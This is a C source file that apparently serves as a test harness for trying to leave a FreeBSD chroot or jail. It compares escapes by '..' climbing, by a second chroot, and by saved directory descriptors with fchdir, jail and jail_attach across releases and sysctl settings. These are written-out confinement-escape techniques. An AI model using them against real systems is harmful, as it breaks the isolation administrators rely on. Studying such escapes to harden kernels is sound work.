/*
 * escape: try to leave a chroot, or a jail, call by call.
 *
 * chroot(2) moves the root of a process and nothing else. The working directory stays, and so do open directories.
 * Walking up by ".." stops at the root, but only if the walk comes through it. Each function below arranges to stand
 * somewhere from which no walk up comes through the root. Compare what happens on 3.4, on 4.0 and today, and with
 * sysctl kern.chroot_allow_open_directories at 0, 1 and 2.
 *
 * CALL(x) makes a call, prints it with its answer, and ends the attempt when it is refused.
 * climb() is chdir("..") sixteen times.
 */
#include <sys/param.h>
#include <sys/jail.h>
#include <sys/stat.h>
#include <fcntl.h>
#include <jail.h>
#include <unistd.h>

#define CAGE "/tmp/cage"

static void
lock(void)              /* into the cage, as a careful administrator does it */
{
	CALL(chdir(CAGE));
	CALL(chroot("."));
}

void
by_dotdot(void)         /* the parent of a root is the root itself: held on every release */
{
	lock();
	climb();
}

void
by_chroot(void)         /* "." is now above "/": nothing but a remembered first root can stop the walk */
{
	lock();
	mkdir("sub", 0755);
	CALL(chroot("sub"));
	climb();
}

void
by_fchdir(void)         /* the same, by a descriptor: 4.0 and later refuse the second chroot */
{
	lock();
	int fd = CALL(open(".", O_RDONLY));
	mkdir("sub", 0755);
	CALL(chroot("sub"));
	CALL(fchdir(fd));
	climb();
}

void
by_saved_fd(void)       /* opened before the first chroot: no first root lies on the way up from here */
{
	int fd = CALL(open("/", O_RDONLY));
	lock();
	CALL(fchdir(fd));
	climb();
}

void
by_jail(void)           /* as above with jail(2): 4.0 asked as chroot(2) does, later ones always refuse */
{
	int fd = CALL(open("/", O_RDONLY));
	struct jail j = { .version = 0, .path = CAGE, .hostname = "cage", .ip_number = 0x0a00020f };
	CALL(jail(&j));
	CALL(fchdir(fd));
	climb();
}

void
by_attach(const char *name)     /* as above with jail_attach(2): whoever enters a jail carries no directories */
{
	int jid = CALL(jail_getid(name));
	int fd = CALL(open("/", O_RDONLY));
	CALL(jail_attach(jid));
	CALL(fchdir(fd));
	climb();
}

/* main() remembers stat("/") first, and at the end asks whether stat(".") is the same directory. */
